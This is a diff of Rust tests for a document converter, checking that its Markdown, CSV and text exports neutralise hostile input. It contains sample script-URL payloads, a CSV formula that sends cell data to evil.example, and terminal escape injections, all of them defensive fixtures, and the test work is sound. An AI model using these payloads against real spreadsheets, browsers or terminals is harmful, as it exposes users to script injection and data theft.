@@ -1663,3 +1663,255 @@ fn elements_in_a_foreign_namespace_are_never_read_as_word_text() {
     let strict = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/strict.docx"));
     assert!(!texts(&convert(&strict.unwrap()).unwrap()).is_empty());
 }
+
+// ---------------------------------------------------------------------------------------------
+// Outputs that attack whoever opens them (issue 14, section 4).
+
+fn written(doc: &Document, format: Format, options: &WriteOptions) -> String {
+    let mut out = Vec::new();
+    write(doc, format, options, &mut out).unwrap();
+    String::from_utf8(out).unwrap()
+}
+
+/// Every link and image destination of `md`, as a CommonMark parser reads them.
+fn markdown_targets(md: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Parser, Tag};
+    Parser::new(md)
+        .filter_map(|event| match event {
+            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                Some(dest_url.into_string())
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+const SCRIPT_TARGETS: [&str; 8] = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(document.cookie)",
+    "java\tscript:alert(1)",
+    " javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "%6Aavascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+];
+
+#[test]
+fn markdown_links_to_script_and_data_targets_lose_the_link_and_keep_the_text() {
+    let mut d = Docx::new();
+    let mut body = String::new();
+    for (i, url) in SCRIPT_TARGETS.iter().enumerate() {
+        let rid = d.add_hyperlink(Docx::MAIN, url);
+        body.push_str(&s::p(&s::hyperlink(&rid, &s::run(&format!("link {i}")))));
+    }
+    let fine = d.add_hyperlink(Docx::MAIN, "https://example.com/a");
+    body.push_str(&s::p(&s::hyperlink(&fine, &s::run("fine link"))));
+    d.set_body(&body);
+    let doc = convert(&d.to_bytes()).unwrap();
+
+    let md = written(&doc, Format::Markdown, &WriteOptions::new());
+    assert_eq!(markdown_targets(&md), ["https://example.com/a"], "{md}");
+    for i in 0..SCRIPT_TARGETS.len() {
+        assert!(
+            md.contains(&format!("link {i}")),
+            "text of link {i} lost: {md}"
+        );
+    }
+    // The JSON keeps every target as the document has it.
+    let json = written(&doc, Format::Json, &WriteOptions::new());
+    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let mut urls = Vec::new();
+    for block in value["blocks"].as_array().unwrap() {
+        for inline in block["inlines"].as_array().into_iter().flatten() {
+            if let Some(url) = inline["url"].as_str() {
+                urls.push(url.to_owned());
+            }
+        }
+    }
+    // (An XML parser reads a tab in an attribute as a space.)
+    let mut expected: Vec<String> = SCRIPT_TARGETS
+        .iter()
+        .map(|s| s.replace('\t', " "))
+        .collect();
+    expected.push("https://example.com/a".into());
+    assert_eq!(urls, expected, "{json}");
+}
+
+#[test]
+fn markdown_images_with_script_targets_keep_their_alt_text_and_lose_the_target() {
+    let mut d = Docx::new();
+    let mut body = String::new();
+    let targets = [
+        ("javascript:alert(1)", false),
+        (
+            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+            false,
+        ),
+        ("DATA:text/html,x", false),
+        ("data:image/png;base64,iVBORw0KGgo=", true),
+        ("https://example.com/photo.jpg", true),
+    ];
+    for (i, (url, _)) in targets.iter().enumerate() {
+        let rid = d.add_linked_image(Docx::MAIN, url);
+        let pic = s::Picture::new(&rid, i as u32 + 1, "pic")
+            .descr(&format!("alt {i}"))
+            .linked();
+        body.push_str(&s::p(&s::inline_picture(&pic)));
+    }
+    d.set_body(&body);
+    let doc = convert(&d.to_bytes()).unwrap();
+    let md = written(&doc, Format::Markdown, &WriteOptions::new());
+    let kept: Vec<&str> = targets
+        .iter()
+        .filter(|(_, keep)| *keep)
+        .map(|(url, _)| *url)
+        .collect();
+    let live: Vec<String> = markdown_targets(&md)
+        .into_iter()
+        .filter(|t| !t.is_empty())
+        .collect();
+    assert_eq!(live, kept, "{md}");
+    for i in 0..targets.len() {
+        assert!(md.contains(&format!("alt {i}")), "alt text {i} lost: {md}");
+    }
+    let json = written(&doc, Format::Json, &WriteOptions::new());
+    for (url, _) in targets {
+        assert!(
+            json.contains(&serde_json::to_string(url).unwrap()),
+            "{url} not in JSON"
+        );
+    }
+}
+
+/// A document whose every CSV column can start with a formula: text, style, list label,
+/// bookmark, image name and description, and its source path.
+fn formula_document() -> Document {
+    let mut d = Docx::new();
+    d.styles(&(s::base_styles("Normal") + &s::para_style("Evil", "+Evil style", None, "", "")));
+    d.numbering(
+        r#"<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="-"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>"#,
+    );
+    let rid = d.add_image(Docx::MAIN, PNG_1X1, "png");
+    let pic = s::Picture::new(&rid, 1, "=IMAGE(\"x\")").descr("@descr");
+    d.set_body(
+        &[
+            s::p_text(
+                None,
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+            ),
+            s::p_text(Some("Evil"), "styled"),
+            s::p_list(None, 1, 0, "listed"),
+            s::p(&(s::bookmark_start(1, "@bookmark") + &s::run("marked") + &s::bookmark_end(1))),
+            s::p(&s::inline_picture(&pic)),
+            s::p_text(None, "-2+3"),
+        ]
+        .concat(),
+    );
+    let mut doc = convert(&d.to_bytes()).unwrap();
+    doc.source.path = Some("=HYPERLINK(1).docx".into());
+    doc
+}
+
+fn csv_cells(doc: &Document, table: CsvTable, raw: bool) -> Vec<String> {
+    let options = WriteOptions {
+        csv_table: table,
+        csv_raw: raw,
+        ..WriteOptions::new()
+    };
+    let csv = written(doc, Format::Csv, &options);
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(record.unwrap().iter().map(str::to_owned));
+    }
+    cells
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_every_table() {
+    let doc = formula_document();
+    let formula = |c: &String| c.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let mut neutralized = Vec::new();
+    for table in [CsvTable::Blocks, CsvTable::Images, CsvTable::Bookmarks] {
+        let cells = csv_cells(&doc, table, false);
+        assert!(!cells.is_empty(), "{table:?}");
+        let live: Vec<&String> = cells.iter().filter(|c| formula(c)).collect();
+        assert!(live.is_empty(), "{table:?}: {live:?}");
+        neutralized.extend(cells.into_iter().filter(|c| c.starts_with('\'')));
+    }
+    for expected in [
+        "'=HYPERLINK(1).docx",
+        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+        "'+Evil style",
+        "'-",
+        "'@bookmark",
+        "'=IMAGE(\"x\")",
+        "'@descr",
+        "'-2+3",
+    ] {
+        assert!(
+            neutralized.iter().any(|c| c == expected),
+            "{expected:?} not among {neutralized:?}"
+        );
+    }
+}
+
+#[test]
+fn csv_raw_writes_cells_as_they_are() {
+    let doc = formula_document();
+    let cells = csv_cells(&doc, CsvTable::Blocks, true);
+    assert!(cells.iter().any(|c| c == "=HYPERLINK(1).docx"), "{cells:?}");
+    assert!(cells.iter().any(|c| c == "-2+3"), "{cells:?}");
+    assert!(!cells.iter().any(|c| c.starts_with('\'')), "{cells:?}");
+}
+
+#[test]
+fn control_characters_in_text_are_dropped_from_text_outputs_and_kept_in_json() {
+    // ESC c resets a terminal, ESC P opens a device control string, U+009B is CSI.
+    let hostile = "reset\u{1b}c bell\u{7} csi\u{9b}31m dcs\u{1b}P0;pwned\u{7} nel\u{85} del\u{7f}";
+    let clean = "resetc bell csi31m dcsP0;pwned nel del";
+    let mut d = Docx::new();
+    d.comments(
+        r#"<w:comment w:id="0" w:author="A&#x1b;uthor"><w:p><w:r><w:t>note&#x1b;c</w:t></w:r></w:p></w:comment>"#,
+    );
+    d.set_body(
+        &[
+            s::p_text(None, hostile),
+            s::p(&(s::run("commented") + r#"<w:r><w:commentReference w:id="0"/></w:r>"#)),
+            s::p(&(s::run("tab\there") + "<w:r><w:br/></w:r>" + &s::run("next line"))),
+        ]
+        .concat(),
+    );
+    let doc = convert(&d.to_bytes()).unwrap();
+    assert_eq!(
+        doc.paragraphs()[0].1.text,
+        hostile,
+        "the model keeps the text"
+    );
+    let options = WriteOptions {
+        comments: true,
+        ..WriteOptions::new()
+    };
+    for format in [Format::Markdown, Format::Text, Format::Csv] {
+        let out = written(&doc, format, &options);
+        let bad: Vec<char> = out
+            .chars()
+            .filter(|&c| c.is_control() && !matches!(c, '\t' | '\n'))
+            .filter(|&c| !(format == Format::Csv && c == '\r')) // CSV's CRLF record ends
+            .collect();
+        assert!(bad.is_empty(), "{format:?} keeps {bad:?}: {out:?}");
+        assert!(out.contains(clean), "{format:?}: {out:?}");
+        assert!(
+            out.contains("tab\there"),
+            "{format:?} lost the tab: {out:?}"
+        );
+    }
+    let md = written(&doc, Format::Markdown, &options);
+    assert!(md.contains("notec") && md.contains("Author"), "{md}");
+    let json = written(&doc, Format::Json, &options);
+    assert!(
+        json.contains("reset\\u001bc bell\\u0007 csi\u{9b}31m"),
+        "{json}"
+    );
+}
